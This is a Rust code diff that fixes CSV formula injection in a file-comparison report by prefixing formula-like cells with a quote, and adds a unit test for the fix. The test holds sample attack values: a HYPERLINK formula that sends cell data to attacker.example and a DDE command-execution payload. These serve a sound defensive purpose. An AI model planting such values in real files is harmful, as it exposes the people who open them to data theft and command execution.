@@ -84,8 +84,13 @@ async fn md5_of(store: &dyn Store, prefix: &str, entry: &Entry, compute: bool) -
     }
 }
 
+/// One CSV cell. A cell that a spreadsheet would run as a formula (starting `=`, `+`, `-`, `@`,
+/// tab or CR) is prefixed with `'`, as OWASP advises: the names come from containers other
+/// people write to, and the report is meant to be opened and attached to tickets. The JSON
+/// Lines report keeps every name exactly.
 fn csv_field(text: &str) -> String {
-    if text.contains([',', '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_owned() }
+    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_owned() };
+    if text.contains([',', '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text }
 }
 
 struct Reports {
@@ -300,4 +305,24 @@ pub(super) async fn compare_trees(
         ));
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_field;
+
+    /// Finding 18: blob names such as `=HYPERLINK(…)` landed in the CSV report as formulas.
+    #[test]
+    fn formula_like_names_are_defused_in_csv() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://attacker.example/?leak=\"&A2;\"Click\")"),
+            "\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A2;\"\"Click\"\")\""
+        );
+        assert_eq!(csv_field("@SUM(1+9)*cmd|' /C calc'!A0"), "'@SUM(1+9)*cmd|' /C calc'!A0");
+        for name in ["+1", "-1", "\tx"] {
+            assert!(csv_field(name).starts_with('\''), "{name}");
+        }
+        assert_eq!(csv_field("plain, with comma"), "\"plain, with comma\"");
+        assert_eq!(csv_field("photos/a-b.jpg"), "photos/a-b.jpg");
+    }
 }
